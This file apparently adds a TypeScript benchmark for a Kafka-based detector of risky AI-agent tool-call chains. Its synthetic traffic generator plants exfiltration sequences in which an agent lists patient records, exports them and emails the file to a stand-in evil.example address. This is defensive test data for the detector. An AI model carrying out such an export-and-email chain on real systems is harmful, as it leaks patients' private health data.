@@ -1,0 +1,412 @@
+/**
+ * End-to-end benchmark (`npm run bench:e2e`), real broker and Redis, one run on this machine:
+ *
+ *   (a) a raw kafkajs passthrough: consume the input topic, produce each message to another topic;
+ *   (b) chainwatch run (in process: StreamService with the app's metrics SDK) with 100 patterns (the
+ *       built-in library + generated variants), 10 000 users, on the same events;
+ *   (c) detection latency, event produced → alert readable (read_committed), at half of (b)'s rate.
+ *
+ * Prints a table and writes bench/results/e2e.json. Options: --events N (default 1 000 000),
+ * --users N (10 000), --partitions N (4), --latency-seconds S (20), --batch-size N (2000, the
+ * service's CHAINWATCH_BATCH_SIZE). Brokers / Redis from
+ * KAFKA_BROKERS / REDIS_URL (default 127.0.0.1:9092 / redis://127.0.0.1:6379).
+ */
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import { availableParallelism, loadavg, tmpdir, totalmem } from "node:os";
+import { join } from "node:path";
+import { parseArgs } from "node:util";
+import { Redis } from "ioredis";
+import { Kafka, logLevel, Partitioners } from "kafkajs";
+import type { Alert } from "../src/alerts/types.js";
+import { loadConfig } from "../src/config/load.js";
+import { StreamService } from "../src/stream/service.js";
+import { installMetrics } from "../src/telemetry/http.js";
+import { createLogger } from "../src/telemetry/logger.js";
+
+const ROOT = join(import.meta.dirname, "..");
+const { values: args } = parseArgs({
+  options: {
+    events: { type: "string", default: "1000000" },
+    users: { type: "string", default: "10000" },
+    partitions: { type: "string", default: "4" },
+    "latency-seconds": { type: "string", default: "20" },
+    "batch-size": { type: "string", default: "2000" },
+  },
+});
+const EVENTS = Number(args.events);
+const USERS = Number(args.users);
+const PARTITIONS = Number(args.partitions);
+const LATENCY_SECONDS = Number(args["latency-seconds"]);
+const BATCH_SIZE = Number(args["batch-size"]);
+const BROKERS = (process.env.KAFKA_BROKERS ?? "127.0.0.1:9092").split(",");
+const REDIS_URL = process.env.REDIS_URL ?? "redis://127.0.0.1:6379";
+const RUN = `bench-e2e-${process.pid}-${Date.now().toString(36)}`;
+
+const kafka = new Kafka({ clientId: "bench-e2e", brokers: BROKERS, logLevel: logLevel.NOTHING });
+const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
+
+// --- traffic: seeded, per-user time order, ~3% of users run an exfiltration chain -----------------
+function prng(seed: number) {
+  let s = seed >>> 0;
+  return () => {
+    s = (s + 0x6d2b79f5) >>> 0;
+    let t = s;
+    t = Math.imul(t ^ (t >>> 15), t | 1);
+    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+type Rand = () => number;
+const pick = <T>(r: Rand, a: readonly T[]): T => a[Math.floor(r() * a.length)]!;
+const int = (r: Rand, lo: number, hi: number) => lo + Math.floor(r() * (hi - lo + 1));
+const BENIGN: Array<[string, string]> = [
+  ["ehr", "list_patients"],
+  ["ehr", "get_patient_record"],
+  ["ehr", "read_chart"],
+  ["mail", "search_emails"],
+  ["mail", "read_email"],
+  ["mail", "draft_email"],
+  ["files", "list_directory"],
+  ["files", "read_file"],
+  ["files", "write_file"],
+  ["crm", "query_accounts"],
+  ["crm", "get_contact"],
+  ["web", "fetch_url"],
+];
+
+interface Ev {
+  event_id: string;
+  timestamp: number;
+  user_id: string;
+  server: string;
+  tool: string;
+  [k: string]: unknown;
+}
+
+/** An endless stream generator: `next(ts)` gives the next event at (or after) event time ts. */
+function trafficSource(seed: number, userPrefix: string) {
+  const r = prng(seed);
+  const pending: Ev[] = [];
+  let seq = 0;
+  const ev = (user: number, ts: number, server: string, tool: string): Ev => ({
+    event_id: `${userPrefix}-${(seq++).toString(36)}`,
+    timestamp: ts,
+    user_id: `${userPrefix}-${user}`,
+    server,
+    tool,
+    session_id: `s-${user}`,
+    agent_id: "bench-agent",
+    outcome: "success",
+  });
+  const chain = (user: number, ts: number) => {
+    let t = ts;
+    const after = (lo: number, hi: number) => {
+      t += int(r, lo, hi);
+      return t;
+    };
+    for (let i = 0; i < 3; i++)
+      pending.push({
+        ...ev(user, after(200, 2000), "ehr", "list_patients"),
+        arguments: { patient_id: `p-${int(r, 1, 9999)}` },
+      });
+    const file = `f-${int(r, 1, 1e9)}`;
+    pending.push({
+      ...ev(user, after(200, 5000), "ehr", "export_records"),
+      arguments: { format: "csv" },
+      result: { file_id: file },
+    });
+    pending.push({
+      ...ev(user, after(200, 5000), "mail", "send_email"),
+      arguments: { to: `drop${int(r, 1, 9)}@evil.example`, attachment: file },
+    });
+    pending.sort((a, b) => a.timestamp - b.timestamp);
+  };
+  const busy = new Set<number>();
+  return (ts: number): Ev => {
+    if (pending.length && pending[0]!.timestamp <= ts) {
+      const e = pending.shift()!;
+      return e;
+    }
+    const user = int(r, 0, USERS - 1);
+    if (r() < 0.005 && !busy.has(user)) {
+      busy.add(user);
+      chain(user, ts);
+    }
+    const [server, tool] = pick(r, BENIGN);
+    const e = ev(user, ts, server, tool);
+    e.arguments = { patient_id: `p-${int(r, 1, 9999)}`, query: "follow-up" };
+    return e;
+  };
+}
+
+// --- patterns: the built-in library + variants up to 100 --------------------------------------
+function writePatterns(count: number): string {
+  const dir = mkdtempSync(join(tmpdir(), "cw-bench-patterns-"));
+  const lib = join(ROOT, "patterns");
+  const files = readdirSync(lib).filter((f) => f.endsWith(".json") && f !== "taxonomy.json");
+  writeFileSync(join(dir, "taxonomy.json"), readFileSync(join(lib, "taxonomy.json")));
+  const originals = files.map(
+    (f) => JSON.parse(readFileSync(join(lib, f), "utf8")) as Record<string, unknown>,
+  );
+  for (let i = 0; i < count; i++) {
+    const p = structuredClone(originals[i % originals.length]!);
+    delete p.tests;
+    delete p.$schema;
+    if (i >= originals.length) {
+      p.id = `${p.id}.v${i}`;
+      p.title = `${p.title} (variant ${i})`;
+    }
+    writeFileSync(join(dir, `${p.id}.json`), JSON.stringify(p));
+  }
+  return dir;
+}
+
+// --- Kafka helpers -----------------------------------------------------------------------------
+async function createTopics(names: string[]) {
+  const admin = kafka.admin();
+  await admin.connect();
+  await admin.createTopics({
+    waitForLeaders: true,
+    topics: names.map((topic) => ({ topic, numPartitions: PARTITIONS })),
+  });
+  await admin.disconnect();
+}
+
+async function produceAll(topic: string, events: Ev[]) {
+  const producer = kafka.producer({ createPartitioner: Partitioners.DefaultPartitioner });
+  await producer.connect();
+  const started = performance.now();
+  const batch = 2000;
+  const inflight: Promise<unknown>[] = [];
+  for (let i = 0; i < events.length; i += batch) {
+    const messages = events.slice(i, i + batch).map((e) => ({ key: e.user_id, value: JSON.stringify(e) }));
+    inflight.push(producer.send({ topic, messages, acks: -1 }));
+    if (inflight.length >= 4) await inflight.shift();
+  }
+  await Promise.all(inflight);
+  await producer.disconnect();
+  return events.length / ((performance.now() - started) / 1000);
+}
+
+async function caughtUp(groupId: string, topic: string): Promise<boolean> {
+  const admin = kafka.admin();
+  await admin.connect();
+  try {
+    const ends = await admin.fetchTopicOffsets(topic);
+    const [committed] = await admin.fetchOffsets({ groupId, topics: [topic] });
+    return ends.every((e) => {
+      const c = committed?.partitions.find((p) => p.partition === e.partition);
+      return BigInt(e.high) === 0n || (c !== undefined && BigInt(c.offset) >= BigInt(e.high));
+    });
+  } finally {
+    await admin.disconnect();
+  }
+}
+
+/** (a) consume → produce each message to another topic, no work; events/s until all are through. */
+async function passthrough(input: string, output: string, total: number): Promise<number> {
+  const consumer = kafka.consumer({ groupId: `${RUN}-passthrough`, maxWaitTimeInMs: 100 });
+  const producer = kafka.producer({ createPartitioner: Partitioners.DefaultPartitioner });
+  await Promise.all([consumer.connect(), producer.connect()]);
+  await consumer.subscribe({ topic: input, fromBeginning: true });
+  let seen = 0;
+  let started = 0;
+  let done!: () => void;
+  const finished = new Promise<void>((r) => {
+    done = r;
+  });
+  await consumer.run({
+    partitionsConsumedConcurrently: PARTITIONS,
+    eachBatch: async ({ batch }) => {
+      started ||= performance.now();
+      await producer.send({
+        topic: output,
+        acks: -1,
+        messages: batch.messages.map((m) => ({ key: m.key, value: m.value, headers: m.headers })),
+      });
+      seen += batch.messages.length;
+      if (seen >= total) done();
+    },
+  });
+  await finished;
+  const rate = total / ((performance.now() - started) / 1000);
+  await consumer.disconnect();
+  await producer.disconnect();
+  return rate;
+}
+
+function serviceConfig(name: string, patternsDir: string) {
+  return loadConfig({
+    env: {
+      CHAINWATCH_KAFKA_BROKERS: BROKERS.join(","),
+      CHAINWATCH_GROUP_ID: `${RUN}-${name}`,
+      CHAINWATCH_INPUT_TOPIC: `${RUN}-${name}-in`,
+      CHAINWATCH_ALERT_TOPIC: `${RUN}-${name}-alerts`,
+      CHAINWATCH_REDIS_URL: REDIS_URL,
+      CHAINWATCH_REDIS_PREFIX: `${RUN}-${name}:`,
+      CHAINWATCH_PATTERNS: patternsDir,
+      CHAINWATCH_PARTITIONS_CONCURRENCY: String(PARTITIONS),
+      CHAINWATCH_BATCH_SIZE: String(BATCH_SIZE),
+      CHAINWATCH_LOG_LEVEL: process.env.BENCH_LOG_LEVEL ?? "warn",
+    },
+  });
+}
+
+/** (b) chainwatch from start until its committed offsets reach the end of the input. */
+async function chainwatch(patternsDir: string, events: Ev[]): Promise<{ rate: number; cpuS: number }> {
+  const config = serviceConfig("run", patternsDir);
+  await createTopics([config.kafka.inputTopic, config.kafka.alertTopic, config.kafka.dlqTopic]);
+  await produceAll(config.kafka.inputTopic, events);
+  const service = new StreamService({ config, logger: createLogger(process.env.BENCH_LOG_LEVEL ?? "warn") });
+  const cpu0 = process.cpuUsage();
+  const started = performance.now();
+  await service.start();
+  while (!(await caughtUp(config.kafka.groupId, config.kafka.inputTopic))) await sleep(200);
+  const seconds = (performance.now() - started) / 1000;
+  const cpu = process.cpuUsage(cpu0);
+  await service.stop();
+  return { rate: events.length / seconds, cpuS: (cpu.user + cpu.system) / 1e6 };
+}
+
+/** (c) produce at `rate` events/s for LATENCY_SECONDS; per alert: read time − trigger produce time. */
+async function latency(
+  patternsDir: string,
+  rate: number,
+): Promise<{ p50: number; p99: number; alerts: number; sent: number }> {
+  const config = serviceConfig("lat", patternsDir);
+  await createTopics([config.kafka.inputTopic, config.kafka.alertTopic, config.kafka.dlqTopic]);
+  const service = new StreamService({ config, logger: createLogger(process.env.BENCH_LOG_LEVEL ?? "warn") });
+  await service.start();
+  const reader = kafka.consumer({
+    groupId: `${RUN}-lat-reader`,
+    readUncommitted: false,
+    maxWaitTimeInMs: 20,
+  });
+  await reader.connect();
+  await reader.subscribe({ topic: config.kafka.alertTopic, fromBeginning: true });
+  const producedAt = new Map<string, number>();
+  const delays: number[] = [];
+  await reader.run({
+    eachMessage: async ({ message }) => {
+      const alert = JSON.parse(message.value!.toString()) as Alert;
+      const at = producedAt.get(alert.trigger_event_id);
+      if (at !== undefined) delays.push(performance.now() - at);
+    },
+  });
+  await sleep(3000); // both consumers joined before the clock starts
+
+  const producer = kafka.producer({ createPartitioner: Partitioners.DefaultPartitioner });
+  await producer.connect();
+  const next = trafficSource(99, "lat");
+  const tickMs = 20;
+  const perTick = Math.max(1, Math.round((rate * tickMs) / 1000));
+  const end = performance.now() + LATENCY_SECONDS * 1000;
+  let sent = 0;
+  let tick = performance.now();
+  while (performance.now() < end) {
+    const events: Ev[] = [];
+    for (let i = 0; i < perTick; i++) events.push(next(Date.now()));
+    const now = performance.now();
+    for (const e of events) producedAt.set(e.event_id, now);
+    await producer.send({
+      topic: config.kafka.inputTopic,
+      acks: -1,
+      messages: events.map((e) => ({ key: e.user_id, value: JSON.stringify(e) })),
+    });
+    sent += events.length;
+    tick += tickMs;
+    const wait = tick - performance.now();
+    if (wait > 0) await sleep(wait);
+  }
+  await producer.disconnect();
+  while (!(await caughtUp(config.kafka.groupId, config.kafka.inputTopic))) await sleep(200);
+  await sleep(1000);
+  await reader.disconnect();
+  await service.stop();
+  delays.sort((a, b) => a - b);
+  const q = (p: number) =>
+    delays.length ? delays[Math.min(delays.length - 1, Math.floor(p * delays.length))]! : Number.NaN;
+  return { p50: q(0.5), p99: q(0.99), alerts: delays.length, sent };
+}
+
+async function cleanRedis() {
+  const redis = new Redis(REDIS_URL);
+  let cursor = "0";
+  do {
+    const [next, keys] = await redis.scan(cursor, "MATCH", `${RUN}-*`, "COUNT", 1000);
+    cursor = next;
+    if (keys.length) await redis.unlink(...keys);
+  } while (cursor !== "0");
+  redis.disconnect();
+}
+
+async function main() {
+  installMetrics(); // the app's metrics SDK, as in `chainwatch run`
+  const patternsDir = writePatterns(100);
+  const next = trafficSource(42, "u");
+  let ts = Date.UTC(2026, 10, 20, 8, 0, 0);
+  const events: Ev[] = [];
+  for (let i = 0; i < EVENTS; i++) {
+    ts += 6;
+    events.push(next(ts));
+  }
+
+  const input = `${RUN}-pass-in`;
+  const output = `${RUN}-pass-out`;
+  await createTopics([input, output]);
+  const produceRate = await produceAll(input, events);
+  process.stderr.write(`bench:e2e: ${EVENTS} events produced (${Math.round(produceRate)}/s); passthrough…\n`);
+  const pass = await passthrough(input, output, EVENTS);
+  process.stderr.write(`bench:e2e: passthrough ${Math.round(pass)} events/s; chainwatch…\n`);
+  const cw = await chainwatch(patternsDir, events);
+  process.stderr.write(
+    `bench:e2e: chainwatch ${Math.round(cw.rate)} events/s; latency at ${Math.round(cw.rate / 2)}/s…\n`,
+  );
+  const lat = await latency(patternsDir, cw.rate / 2);
+  await cleanRedis();
+
+  const results = {
+    events: EVENTS,
+    users: USERS,
+    patterns: 100,
+    partitions: PARTITIONS,
+    batch_size: BATCH_SIZE,
+    produce_events_per_s: Math.round(produceRate),
+    passthrough_events_per_s: Math.round(pass),
+    chainwatch_events_per_s: Math.round(cw.rate),
+    chainwatch_events_per_cpu_s: Math.round(EVENTS / cw.cpuS),
+    ratio: Number((cw.rate / pass).toFixed(3)),
+    latency_rate_events_per_s: Math.round(cw.rate / 2),
+    latency_events_sent: lat.sent,
+    latency_alerts: lat.alerts,
+    latency_p50_ms: Number(lat.p50.toFixed(1)),
+    latency_p99_ms: Number(lat.p99.toFixed(1)),
+    load_average_1m: Number(loadavg()[0]!.toFixed(2)),
+    machine: { cores: availableParallelism(), memory: totalmem(), node: process.version },
+    at: new Date().toISOString(),
+  };
+  const rows: Array<[string, string]> = [
+    ["events / users / patterns", `${EVENTS} / ${USERS} / 100`],
+    ["(a) kafkajs passthrough", `${results.passthrough_events_per_s} events/s`],
+    [
+      "(b) chainwatch run",
+      `${results.chainwatch_events_per_s} events/s (${results.chainwatch_events_per_cpu_s}/CPU-s)`,
+    ],
+    ["ratio b/a (target ≥ 0.7)", String(results.ratio)],
+    [
+      `latency at ${results.latency_rate_events_per_s}/s`,
+      `p50 ${results.latency_p50_ms} ms, p99 ${results.latency_p99_ms} ms (${lat.alerts} alerts)`,
+    ],
+    ["load average (1m)", String(results.load_average_1m)],
+  ];
+  const w = Math.max(...rows.map(([k]) => k.length));
+  for (const [k, v] of rows) process.stdout.write(`${k.padEnd(w)}  ${v}\n`);
+  mkdirSync(join(ROOT, "bench/results"), { recursive: true });
+  writeFileSync(join(ROOT, "bench/results/e2e.json"), `${JSON.stringify(results, null, 2)}\n`);
+  process.exit(0);
+}
+
+main().catch((err) => {
+  process.stderr.write(`bench:e2e: ${err?.stack ?? err}\n`);
+  process.exit(1);
+});
